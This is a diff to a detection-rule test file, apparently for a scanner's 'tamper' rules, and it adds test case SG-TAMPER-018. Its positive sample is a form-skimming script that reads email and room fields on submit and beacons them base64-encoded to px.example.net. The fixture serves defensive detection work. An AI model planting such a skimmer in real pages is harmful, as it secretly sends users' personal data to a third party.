@@ -99,6 +99,28 @@ describeRuleCases('tamper', [
       '{\n "containerVersion": {\n  "tag": [\n   {\n    "name": "t",\n    "type": "html",\n    "parameter": [\n     {\n      "type": "TEMPLATE",\n      "key": "html",\n      "value": "<script>\\n(function(){\\n  var f = {{Form Element}};\\n  window.dataLayer.push({event: \'form_sent\', form_id: f.id, fields: f.elements.length});\\n})();\\n</script>"\n     }\n    ],\n    "firingTriggerId": [\n     "11"\n    ]\n   }\n  ],\n  "trigger": [\n   {\n    "triggerId": "11",\n    "type": "FORM_SUBMISSION"\n   }\n  ]\n }\n}',
   },
   {
+    id: 'SG-TAMPER-018',
+    // Named personal fields read on submit and beaconed base64'd.
+    file: 'assets/splash.html',
+    positive: `<form id="f"><input name="email"></form>
+<script>
+  var f = document.getElementById('f');
+  f.addEventListener('submit', function () {
+    var d = { email: f.email.value, room: f.room.value };
+    new Image().src = 'https://px.example.net/p.gif?d=' + encodeURIComponent(btoa(JSON.stringify(d)));
+  });
+</script>
+`,
+    negative: `<form id="f"><input name="email"></form>
+<script>
+  var f = document.getElementById('f');
+  f.addEventListener('submit', function () {
+    if (!f.email.value) alert('Enter your email');
+  });
+</script>
+`,
+  },
+  {
     id: 'SG-TAMPER-014',
     file: 'hotkeys.ahk',
     positive:
